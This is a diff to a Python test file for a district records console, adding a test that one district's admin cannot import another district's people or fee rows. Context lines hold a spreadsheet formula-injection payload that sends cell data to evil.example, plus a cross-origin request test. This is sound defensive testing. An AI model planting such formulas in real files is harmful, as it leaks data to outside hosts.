@@ -14,12 +14,12 @@ from sqlalchemy import select
 from district import models
 from district.app import BODY_LIMIT, UPLOAD_BODY_LIMIT, body_limit
 from district.imports.errors import Rejection
-from district.imports.files import PERSON_HEADER
+from district.imports.files import FEE_HEADER, PERSON_HEADER
 from district.imports.outcome import write_report
 from district.security import hash_password, verify_password
 from tests.console.conftest import Browser, ConsoleDistrict
 from tests.console.test_data import csv_bytes, person_rows, settled, upload
-from tests.district.harness import CHANGNING_STREET, PASSWORD
+from tests.district.harness import CHANGNING_STREET, MINHANG_STREET, PASSWORD
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
@@ -182,3 +182,47 @@ def test_another_site_cannot_sign_a_browser_in(browser: Browser,
         headers={"Origin": "https://evil.example"})
     assert response.status_code == 403
     assert "set-cookie" not in response.headers
+
+
+def _minhang_person(district: ConsoleDistrict) -> tuple[str, str]:
+    with district.db.read() as session:
+        found = session.execute(select(models.Person.id_number, models.Person.name)
+                                .where(models.Person.street_code == MINHANG_STREET)
+                                .order_by(models.Person.id)).first()
+    assert found is not None
+    return found[0], found[1]
+
+
+def test_one_districts_admin_cannot_import_another_districts_people_or_fees(
+        console_district: ConsoleDistrict, admin: Browser) -> None:
+    """The importers serve the whole server (the command line); an upload in the console
+    touches only its uploader's district: no person put at, or taken from, another
+    district's street, no fee row of another district's person."""
+    from tests.console.test_data import fee_rows
+
+    number, name = _minhang_person(console_district)
+    placed = person_rows(1)
+    placed[0][PERSON_HEADER.index("街镇代码")] = MINHANG_STREET
+    taken = person_rows(1)
+    taken[0][0], taken[0][1] = number, name  # a Minhang person, moved to Changning
+    fees = fee_rows(console_district, 1)
+    fees[0][FEE_HEADER.index("身份证号码")] = number
+    fees[0][FEE_HEADER.index("姓名")] = name
+    before = _counts(console_district)
+    for kind, header, rows in (("persons", PERSON_HEADER, placed),
+                               ("persons", PERSON_HEADER, taken), ("fees", FEE_HEADER, fees)):
+        import_id = upload(admin, kind, "f.csv", csv_bytes(header, rows))
+        page = settled(admin, import_id)
+        assert 'id="preview-clean"' not in page, (kind, rows)
+        assert admin.post(f"/console/data/{import_id}/import").status_code == 409
+    assert _counts(console_district) == before
+    with console_district.db.read() as session:
+        street = session.scalar(select(models.Person.street_code)
+                                .where(models.Person.id_number == number))
+    assert street == MINHANG_STREET
+
+
+def _counts(district: ConsoleDistrict) -> tuple[int, int]:
+    with district.db.read() as session:
+        return (len(session.scalars(select(models.FeeRow.id)).all()),
+                len(session.scalars(select(models.Person.id)).all()))
